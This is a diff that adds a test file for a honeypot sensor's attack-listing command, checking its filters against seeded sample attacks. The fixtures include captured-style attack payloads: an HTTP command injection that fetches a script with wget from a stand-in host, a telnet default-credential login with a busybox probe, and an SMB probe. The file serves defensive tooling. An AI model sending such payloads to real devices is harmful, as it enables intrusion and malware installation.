@@ -1,0 +1,156 @@
+import { createHash } from 'node:crypto'
+import { mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import Database from 'better-sqlite3'
+import pino from 'pino'
+import { describe, expect, it, onTestFinished } from 'vitest'
+import type { Attack } from '../../src/attack/attack.js'
+import { parseFilterFlags, type FilterFlagValues } from '../../src/cli/filter-flags.js'
+import { hasErrorCode } from '../../src/core/errors.js'
+import { listAttacks, openAttackDatabase } from '../../src/store/attack-query.js'
+import { createSqliteStore } from '../../src/store/sqlite-store.js'
+
+// Every filter of `attacks list` against a database written by the sensor's own store.
+
+const BASE_MS = Date.UTC(2026, 10, 20, 12, 0, 0)
+
+interface Spec {
+  readonly id: string
+  readonly at: number // seconds after BASE_MS
+  readonly src: string
+  readonly port: number
+  readonly protocol?: 'tcp' | 'udp'
+  readonly mode?: Attack['mode']
+  readonly close?: Attack['closeReason']
+  readonly payload: string | Buffer
+}
+
+const SPECS: readonly Spec[] = [
+  { id: 'A', at: 0, src: '203.0.113.5', port: 80, payload: 'GET /shell?cd+/tmp;wget+http://198.51.100.7/x.sh HTTP/1.1\r\n\r\n' },
+  { id: 'B', at: 60, src: '203.0.113.77', port: 8080, payload: 'POST /cgi-bin/ViewLog.asp HTTP/1.1\r\n\r\nremote_submit_Flag=1' },
+  { id: 'C', at: 120, src: '198.51.100.9', port: 445, payload: Buffer.concat([Buffer.from('00000085ff534d4272', 'hex'), Buffer.from('\x1b[2J\x00', 'latin1')]) },
+  { id: 'D', at: 180, src: '2001:db8::17', port: 23, close: 'idle-timeout', payload: 'root\r\nxc3511\r\n/bin/busybox ECCHI\r\n' },
+  { id: 'E', at: 240, src: '2001:db8:1::1', port: 5060, protocol: 'udp', payload: 'OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n' },
+  { id: 'F', at: 300, src: '203.0.113.5', port: 8443, mode: 'mirror', close: 'size-limit', payload: 'x'.repeat(5_000) },
+]
+
+function attackOf(spec: Spec): Attack {
+  const payload = typeof spec.payload === 'string' ? Buffer.from(spec.payload, 'latin1') : spec.payload
+  const startedAtMs = BASE_MS + spec.at * 1_000
+  return {
+    id: `01JZ${spec.id.padStart(22, '0')}`,
+    protocol: spec.protocol ?? 'tcp',
+    family: spec.src.includes(':') ? 6 : 4,
+    mode: spec.mode ?? 'normal',
+    source: { address: spec.src, port: 40_000 },
+    target: { address: spec.src.includes(':') ? '2001:db8::1' : '192.0.2.1', port: spec.port },
+    startedAtMs,
+    endedAtMs: startedAtMs + 100,
+    closeReason: spec.close ?? 'peer-closed',
+    payload,
+    truncated: false,
+    bytesReceived: payload.length,
+    bytesSent: 0,
+    response: Buffer.alloc(0),
+    responseTruncated: false,
+    transcript: [{ direction: 'in', offsetMs: 0, size: payload.length }],
+    transcriptTruncated: false,
+    relay: null,
+  }
+}
+
+async function seeded(): Promise<Database.Database> {
+  const dir = mkdtempSync(join(tmpdir(), 'ht-filter-'))
+  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
+  const path = join(dir, 'attacks.db')
+  const store = await createSqliteStore({ path, batchWindowMs: 10, batchMaxAttacks: 100, maxQueuedAttacks: 100, maxQueuedBytes: 1 << 24, log: pino({ level: 'silent' }) })
+  for (const spec of SPECS) store.enqueue(attackOf(spec))
+  await store.close()
+  // A successful download for A, a failed one for B (plugin tables, schema 3).
+  const rw = new Database(path)
+  const run = (attackId: string): number => Number(rw.prepare("INSERT INTO plugin_runs (attack_id, subject_sha256, plugin, status, started_at, duration_ms) VALUES (?, 'x', 'httpDownload', 'ok', 0, 1)").run(attackId).lastInsertRowid)
+  const download = rw.prepare("INSERT INTO downloads (run_id, attack_id, subject_sha256, plugin, url, outcome, bytes, sha256, started_at, duration_ms) VALUES (?, ?, 'x', 'httpDownload', 'http://198.51.100.7/x.sh', ?, 10, ?, 0, 1)")
+  download.run(run('01JZ000000000000000000000A'), '01JZ000000000000000000000A', 'ok', 'a'.repeat(64))
+  download.run(run('01JZ000000000000000000000B'), '01JZ000000000000000000000B', 'connect-failed', null)
+  rw.close()
+  const db = openAttackDatabase(path)
+  onTestFinished(() => {
+    db.close()
+  })
+  return db
+}
+
+function ids(db: Database.Database, flags: FilterFlagValues): string[] {
+  const page = listAttacks(db, { limit: 100, filter: parseFilterFlags(flags, BASE_MS + 3_600_000) })
+  expect(page.total).toBe(page.attacks.length)
+  return page.attacks.map((a) => a.id.slice(-1)).sort()
+}
+
+describe('attacks list filters', () => {
+  it('selects by each criterion, and by all of them together', async () => {
+    const db = await seeded()
+    expect(ids(db, {})).toEqual(['A', 'B', 'C', 'D', 'E', 'F'])
+    expect(ids(db, { since: '2026-11-20T12:02:00Z' })).toEqual(['C', 'D', 'E', 'F'])
+    expect(ids(db, { until: '2026-11-20 12:02' })).toEqual(['A', 'B'])
+    expect(ids(db, { since: '57m' })).toEqual(['D', 'E', 'F']) // an hour after BASE: 12:03 on
+    expect(ids(db, { source: '203.0.113.5' })).toEqual(['A', 'F'])
+    expect(ids(db, { source: '203.0.113.0/24' })).toEqual(['A', 'B', 'F'])
+    expect(ids(db, { source: '2001:db8::/32' })).toEqual(['D', 'E'])
+    expect(ids(db, { source: '2001:db8::17' })).toEqual(['D'])
+    expect(ids(db, { port: '8000-8500' })).toEqual(['B', 'F'])
+    expect(ids(db, { port: '445' })).toEqual(['C'])
+    expect(ids(db, { protocol: 'udp' })).toEqual(['E'])
+    expect(ids(db, { mode: 'mirror' })).toEqual(['F'])
+    expect(ids(db, { 'close-reason': 'idle-timeout' })).toEqual(['D'])
+    expect(ids(db, { 'min-size': '1000' })).toEqual(['F'])
+    expect(ids(db, { 'has-downloads': true })).toEqual(['A'])
+    expect(ids(db, { 'no-downloads': true })).toEqual(['B', 'C', 'D', 'E', 'F'])
+    const telnet = Buffer.from('root\r\nxc3511\r\n/bin/busybox ECCHI\r\n', 'latin1')
+    for (const algo of ['md5', 'sha256', 'sha512']) expect(ids(db, { hash: createHash(algo).update(telnet).digest('hex').toUpperCase() })).toEqual(['D'])
+    expect(ids(db, { contains: 'wget+http' })).toEqual(['A'])
+    expect(ids(db, { contains: '\\xff\\x53\\x4d\\x42' })).toEqual(['C']) // \xffSMB
+    expect(ids(db, { contains: '\\x1b[2J\\x00' })).toEqual(['C'])
+    expect(ids(db, { regex: 'busybox [A-Z]{5}' })).toEqual(['D'])
+    expect(ids(db, { regex: '/^(get|post) /i' })).toEqual(['A', 'B'])
+    expect(ids(db, { regex: '/^OPTIONS sip:\\d+@/' })).toEqual(['E'])
+    expect(ids(db, { source: '203.0.113.0/24', port: '80-8443', protocol: 'tcp', regex: 'HTTP', 'has-downloads': true })).toEqual(['A'])
+  })
+
+  it('pages in time order with the total of the whole selection', async () => {
+    const db = await seeded()
+    const page = listAttacks(db, { limit: 2, offset: 1, filter: parseFilterFlags({ protocol: 'tcp' }) })
+    expect(page.total).toBe(5)
+    expect(page.attacks.map((a) => a.id.slice(-1))).toEqual(['D', 'C']) // newest first: F, [D, C], B, A
+  })
+
+  it('refuses a bad flag with a usage error naming it, before any database is opened', () => {
+    const cases: [FilterFlagValues, RegExp][] = [
+      [{ since: 'yesterday' }, /--since "yesterday" is neither a duration/],
+      [{ since: '2026-11-21', until: '2026-11-20' }, /--since .* must be before --until/],
+      [{ source: '203.0.113.0/33' }, /--source "203\.0\.113\.0\/33" is not an address or range/],
+      [{ port: '70000' }, /--port "70000" is not a port or a range/],
+      [{ port: '80/tcp' }, /--port "80\/tcp" is not a port or a range/],
+      [{ protocol: 'icmp' }, /--protocol "icmp" is not valid/],
+      [{ mode: 'trap' }, /--mode "trap" is not valid; expected normal, ignore, mirror, proxy/],
+      [{ 'close-reason': 'Peer Closed' }, /--close-reason "Peer Closed" is not a close reason/],
+      [{ 'min-size': '-1' }, /--min-size "-1" is not valid/],
+      [{ hash: 'abc' }, /--hash "abc" is not an md5, sha256 or sha512/],
+      [{ contains: '\\q' }, /--contains: "\\q" at character 1 is not an escape/],
+      [{ contains: '\\x4' }, /is not an escape/],
+      [{ regex: '(' }, /--regex "\(" is not a valid regular expression/],
+      [{ 'has-downloads': true, 'no-downloads': true }, /exclude each other/],
+      [{ source: '\u001b[31mred' }, /--source "\?\[31mred"/], // control bytes never echoed back
+    ]
+    for (const [flags, message] of cases) {
+      let caught: unknown
+      try {
+        parseFilterFlags(flags)
+      } catch (err) {
+        caught = err
+      }
+      expect(hasErrorCode(caught, 'HT_ERR_CLI_USAGE'), JSON.stringify(flags)).toBe(true)
+      expect((caught as Error).message).toMatch(message)
+    }
+  })
+})
